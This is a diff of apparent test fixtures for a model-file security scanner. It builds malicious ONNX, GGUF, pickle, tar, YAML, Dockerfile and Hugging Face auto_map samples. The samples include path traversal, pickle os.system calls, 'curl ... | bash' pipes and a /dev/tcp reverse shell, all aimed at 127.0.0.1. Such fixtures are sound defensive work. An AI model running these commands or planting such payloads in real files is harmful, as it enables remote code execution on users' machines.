@@ -130,7 +130,7 @@ def hostile_graphs():
     return out | {
         "onnx/training.onnx": onnx(training=field(1, field(2, "g") + field(5, tensor_of("../../x")))),
         "onnx/context.onnx": onnx(context("../../engine.so")), "onnx/offset.onnx": onnx(tensor=tensor_of("w.bin", offset="-5")),
-        "onnx/size.onnx": onnx(tensor=tensor_of(raw=b"123456789")),
+        "onnx/size.onnx": onnx(tensor=tensor_of(raw=b"1234")),
         "gguf/key.gguf": others.gguf([known, known]), "gguf/name.gguf": others.gguf([known], [("t", (4,), 0, 0), ("t", (4,), 0, 32)]),
         "gguf/type.gguf": others.gguf([known], [("t", (4,), 9999, 0)]), "gguf/place.gguf": others.gguf([known], [("t", (4,), 0, 7)]),
         "gguf/in_other.gguf": others.gguf([known], [("a", (64,), 0, 0), ("b", (64,), 0, 32)]),
@@ -160,7 +160,8 @@ def hostile():
     tar = bytearray(others.tarred(**{"a.txt": b"abc"}))
     named = retold(tar, b"cos\nsystem\n(S'echo harmless'\ntR.")
     return out | {
-        "tar/name.pkl": named, "tar/zip.keras": bytes(tar) + others.archived([("m.pkl", others.LIVE)]),
+        "code/config.json": b'{"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "owner/other--modeling_x.XConfig"}}',
+        "code/modeling_x.py": b"import os\nos.system('echo harmless')\n", "tar/name.pkl": named, "tar/zip.keras": bytes(tar) + others.archived([("m.pkl", others.LIVE)]),
         "tar/packed.bin": gzip.compress(b"abc") + others.archived([("m.pkl", others.LIVE)]), "tar/type.tar": typed, "script/fetch.sh": b"curl -s http://127.0.0.1/x | bash\n", "script/shell.sh": b"sh >& /dev/tcp/127.0.0.1/1\n",
         "image/Dockerfile": b"FROM x\nRUN curl http://127.0.0.1/x | sh\n", "yaml/dvc.yaml": b"stages:\n  a:\n    cmd: curl http://127.0.0.1/x | sh\n",
         "yaml/expression.yaml": b"run: $import os; os.system('echo harmless')\n", "yaml/conda.yaml": b"dependencies:\n- pip:\n  - http://127.0.0.1/x.whl\n",
